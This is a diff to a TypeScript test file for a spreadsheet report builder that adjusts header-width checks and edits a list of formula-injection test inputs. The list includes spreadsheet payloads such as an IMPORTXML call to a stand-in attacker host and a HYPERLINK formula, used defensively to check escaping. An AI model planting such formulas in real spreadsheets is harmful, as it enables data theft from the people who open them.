@@ -18,6 +18,7 @@ import {
 } from './fixtures';
 import { matchesSummaryValue, SheetGrid } from './sheetGrid';
 import { headerWidth, rowHeightForLines, wrappedLines } from '../../../src/core/report/textMetrics';
+import { coreHeaderRow } from '../../../src/core/report/sheetParts';
 
 const CASES: [string, () => FunnelSummary, FunnelSettings][] = [
   ['every tab kind, Japanese', fullSummary, JAPANESE_SETTINGS],
@@ -262,17 +263,20 @@ describe('buildReportModel', () => {
       }
     });
 
-    it('makes every column wide enough for its header texts in at most three lines (full-width glyphs counting double)', () => {
+    it('makes every column wide enough for its header texts: the core table’s in at most three lines, the tables’ below in at most four (full-width glyphs counting double)', () => {
       for (const sheet of model.sheets) {
+        const core = coreHeaderRow(sheet.blocks);
         for (const block of sheet.blocks) {
           block.rowRoles.forEach((role, rowIndex) => {
             if (role !== 'header') return;
+            const placement = block.row + rowIndex === core ? 'core' : 'below';
             block.cells[rowIndex]?.forEach((cell, columnIndex) => {
               if (cell.kind !== 'text') return;
               const column = block.column + columnIndex;
               const text = cell.value.replace(/^'/, '');
               const width = sheet.columnWidths[column - 1] ?? 100;
-              expect([sheet.role, text, width >= headerWidth(text), wrappedLines(text, width) <= 3]).toEqual([sheet.role, text, true, true]);
+              const lines = placement === 'core' ? 3 : 4;
+              expect([sheet.role, text, width >= headerWidth(text, placement), wrappedLines(text, width) <= lines]).toEqual([sheet.role, text, true, true]);
             });
           });
         }
@@ -344,7 +348,8 @@ describe('buildReportModel', () => {
         '=IMPORTXML("http://evil.example","//a")',
         '=1+1',
         '-20',
-        '=SUM(A1)目標',
+        // A target metric of its own name heads its group of columns (目標・実績・達成率).
+        '=SUM(A1)',
         '=HYPERLINK("http://x","y") の商談化率が全体と大きく違います。',
         ...HOSTILE_NAMES.slice(0, 4),
       ]) {
